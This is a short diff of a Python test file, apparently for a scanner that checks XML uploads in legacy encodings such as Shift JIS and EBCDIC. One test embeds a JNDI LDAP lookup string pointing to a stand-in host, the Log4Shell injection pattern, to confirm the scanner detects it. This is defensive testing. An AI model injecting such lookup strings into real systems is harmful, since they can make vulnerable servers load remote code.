@@ -77,3 +77,7 @@ def test_rest_of_very_long_xml_in_a_legacy_charset_is_noted_and_read_as_a_file()
 
     assert found(document.encode("shift_jis"), "text/xml") == {NOTE}
     assert "injection-jndi-lookup" in found(f"{document}${{jndi:ldap://x.example/a}}".encode("shift_jis"), "text/xml")
+
+
+def test_xml_in_ebcdic_that_is_not_well_formed_is_read_as_text():
+    assert refused(f'<?xml version="1.0" encoding="IBM037"?><note>{SCRIPT}'.encode("IBM037"), "text/xml")
